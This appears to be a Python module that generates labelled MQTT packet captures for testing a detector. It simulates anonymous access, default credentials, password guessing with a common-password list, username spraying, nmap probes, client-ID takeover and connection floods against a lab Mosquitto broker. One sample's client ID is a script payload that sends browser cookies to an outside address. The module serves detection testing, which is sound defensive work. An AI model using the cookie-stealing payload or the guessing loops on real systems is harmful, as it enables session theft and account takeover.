"""Who gets in: anonymous clients, passwords, addresses."""

import time

from .device import V5, Device
from .lab import BROKER, CLIENTS, OUTSIDE_CLIENT, OUTSIDE_SERVER, run
from .samples import sample
from .wire import RawClient


def report(device, topic="cellar/pump/pressure"):
    """A sensor's three messages."""
    for turn in range(3):
        device.publish(topic, f"{2 + turn / 10:.1f}")


def passwords(lab, **users):
    """A password file for the broker."""
    path = lab.work / "passwords"
    path.unlink(missing_ok=True)
    path.touch(0o600)
    for user, password in users.items():
        run("mosquitto_passwd", "-b", str(path), user, password)
    return "allow_anonymous false", f"password_file {path}"


@sample("mqtt/anonymous-accepted.pcap", {"mqtt_anonymous_accepted": 1})
def anonymous_accepted(lab, name):
    """Two clients without user name and password, 3.1.1 and 5.0, let in by an open Mosquitto."""
    with lab.broker("allow_anonymous true"), lab.capture(name):
        for number, protocol in ((30, 4), (31, V5)):
            with Device(f"pump-{number}", CLIENTS[number], protocol=protocol) as device:
                report(device)


@sample("mqtt/anonymous-refused.pcap", {"mqtt_anonymous_refused": 1})
def anonymous_refused(lab, name):
    """Two clients without user name and password, 3.1.1 and 5.0, refused by a Mosquitto with allow_anonymous false."""
    with lab.broker(*passwords(lab, pump="a word")), lab.capture(name):
        Device("pump-30", CLIENTS[30]).close()
        Device("pump-31", CLIENTS[31], protocol=V5).close()


@sample("mqtt/anonymous-outside.pcap", {"mqtt_anonymous_from_outside": 1})
def anonymous_outside(lab, name):
    """A client without user name and password from a public address (203.0.113.9), let in."""
    with lab.broker("allow_anonymous true"), lab.capture(name):
        with Device("visitor", OUTSIDE_CLIENT) as device:
            report(device)


@sample("mqtt/client-outside.pcap", {"mqtt_client_from_outside": 1})
def client_outside(lab, name):
    """A client with a user name from a public address, let in."""
    with lab.broker("allow_anonymous true"), lab.capture(name):
        with Device("remote-hand", OUTSIDE_CLIENT, username="field") as device:
            report(device)


@sample("mqtt/broker-outside.pcap", {"mqtt_broker_outside": 1})
def broker_outside(lab, name):
    """A client inside that talks to a broker at a public address (198.51.100.7)."""
    with lab.broker("allow_anonymous true"), lab.capture(name):
        with Device("meter", CLIENTS[32], username="meter", server=OUTSIDE_SERVER) as device:
            report(device, "vendor/meter/32")


@sample("mqtt/credentials-clear.pcap", {"mqtt_credentials_in_clear": 1})
def credentials_clear(lab, name):
    """Two clients that send user name and password; one of them connects three times."""
    with lab.broker(*passwords(lab, boiler="kettle-and-hob", pump="a word")), lab.capture(name):
        for turn in range(3):
            with Device("boiler", CLIENTS[33], username="boiler", password="kettle-and-hob") as device:
                report(device, "cellar/boiler/temperature")
        with Device("pump", CLIENTS[34], username="pump", password="a word", protocol=V5) as device:
            report(device)


@sample("mqtt/default-credentials.pcap", {
    "mqtt_credentials_in_clear": 1, "mqtt_default_credentials": 1, "mqtt_default_credentials_accepted": 1},
    rows={"mqtt_credentials_in_clear": 1, "mqtt_default_credentials_accepted": 1})
def default_credentials(lab, name):
    """A client that logs in as admin with the password public, and succeeds."""
    with lab.broker(*passwords(lab, admin="public")), lab.capture(name):
        with Device("console", CLIENTS[35], username="admin", password="public") as device:
            report(device)


@sample("mqtt/password-guessing.pcap", {
    "mqtt_credentials_in_clear": 1, "mqtt_default_credentials": 1, "mqtt_password_guessing": 1,
    "mqtt_refused_logins": 1}, rows={"mqtt_credentials_in_clear": 1, "mqtt_default_credentials": 1,
    "mqtt_password_guessing": 1})
def password_guessing(lab, name):
    """One host tries a list of passwords for one user, each on a connection of its own (own bytes)."""
    words = ["123456", "admin", "letmein", "qwerty", "sesame", "welcome", "abc123", "dragon", "monkey", "master",
             "shadow", "summer", "winter", "secret", "iloveyou", "trustno1", "starwars", "whatever", "football",
             "hunter2", "baseball", "princess"]
    with lab.broker(*passwords(lab, admin="not in the list")), lab.capture(name):
        for word in words:
            with RawClient(CLIENTS[36]) as attacker:
                attacker.enter(f"guess-{word}", username="admin", password=word)


@sample("mqtt/stale-password.pcap", {"mqtt_credentials_in_clear": 1})
def stale_password(lab, name):
    """A device whose password has been changed and that has not been told: eight tries, one password."""
    with lab.broker(*passwords(lab, thermostat="the new one")), lab.capture(name):
        for _ in range(8):
            with RawClient(CLIENTS[37]) as device:
                device.enter("thermostat", username="thermostat", password="the old one")
            time.sleep(0.2)


@sample("mqtt/username-spray.pcap", {
    "mqtt_credentials_in_clear": 1, "mqtt_password_spray": 1, "mqtt_refused_logins": 1, "mqtt_username_spray": 1},
    rows={"mqtt_credentials_in_clear": 1, "mqtt_username_spray": 1})
def username_spray(lab, name):
    """One host tries one password for two dozen users (own bytes)."""
    with lab.broker(*passwords(lab, pump="a word")), lab.capture(name):
        for number in range(24):
            with RawClient(CLIENTS[38]) as attacker:
                attacker.enter(f"spray{number}", username=f"user{number:02}", password="Summer2026")


@sample("mqtt/nmap-probe.pcap", {"mqtt_anonymous_accepted": 1, "mqtt_scanner_nmap": 2})
def nmap_probe(lab, name):
    """The bytes of nmap's service probe, and a client id of its MQTT library, from two addresses."""
    with lab.broker("allow_anonymous true"), lab.capture(name):
        with RawClient(CLIENTS[50]) as scanner:
            scanner.send(bytes.fromhex("101000044D5154540402001E00046E6D6170"))
            scanner.read()
        with RawClient(CLIENTS[51]) as scanner:
            scanner.enter("nmapQwErTyUiOpAsDfGh")


@sample("mqtt/wildcard-identity.pcap", {"mqtt_wildcard_in_identity": 1})
def wildcard_identity(lab, name):
    """Clients that call themselves # and +, and a harmless one with a plus sign inside its id (own bytes)."""
    with lab.broker("allow_anonymous true"), lab.capture(name):
        with RawClient(CLIENTS[52]) as attacker:
            attacker.enter("#", username="anybody")
        with RawClient(CLIENTS[52]) as attacker:
            attacker.enter("quiet", username="+")
        with RawClient(CLIENTS[53]) as harmless:  # a plus sign inside a random identifier means nothing
            harmless.enter("rZ3+q/7Kx+0=", username="random")


@sample("mqtt/markup-identity.pcap", {"mqtt_markup_in_identity": 1})
def markup_identity(lab, name):
    """A client whose id is a script for the broker's web console (own bytes)."""
    with lab.broker("allow_anonymous true"), lab.capture(name):
        with RawClient(CLIENTS[54]) as attacker:
            attacker.enter("<script>fetch('//203.0.113.9/'+document.cookie)</script>", username="x")
            attacker.read()


@sample("mqtt/clientid-takeover.pcap", {"mqtt_clientid_takeover": 1, "mqtt_clientid_duel": 1})
def clientid_takeover(lab, name):
    """Two hosts with one client id throw each other out in turn."""
    with lab.broker("allow_anonymous true"), lab.capture(name):
        previous = None
        for turn in range(6):
            current = RawClient(CLIENTS[55 + turn % 2])
            current.enter("valve-3", username="valve-3")
            if previous:
                previous.read()
                previous.socket.close()
            previous = current
        previous.socket.close()


@sample("mqtt/reconnects.pcap")
def reconnects(lab, name):
    """A client with a poor line: it comes back from the same address before its old connection has died."""
    with lab.broker("allow_anonymous true"), lab.capture(name):
        lines = []
        for _ in range(5):
            lines.append(RawClient(CLIENTS[57]))
            lines[-1].enter("meter-9", username="meter-9")
        for line in lines:
            line.socket.close()


@sample("mqtt/connect-flood.pcap.zst", {
    "mqtt_client_ids_many": 1, "mqtt_connect_flood": 1, "mqtt_silent_connections": 1},
    rows={"mqtt_connect_flood": 1, "mqtt_silent_connections": 1})
def connect_flood(lab, name):
    """One host opens 130 connections within seconds and keeps them (own bytes)."""
    with lab.broker("allow_anonymous true"), lab.capture(name):
        clients = []
        for number in range(130):
            client = RawClient(CLIENTS[58])
            client.enter(f"flood{number}", username="f")
            clients.append(client)
        for client in clients:
            client.socket.close()
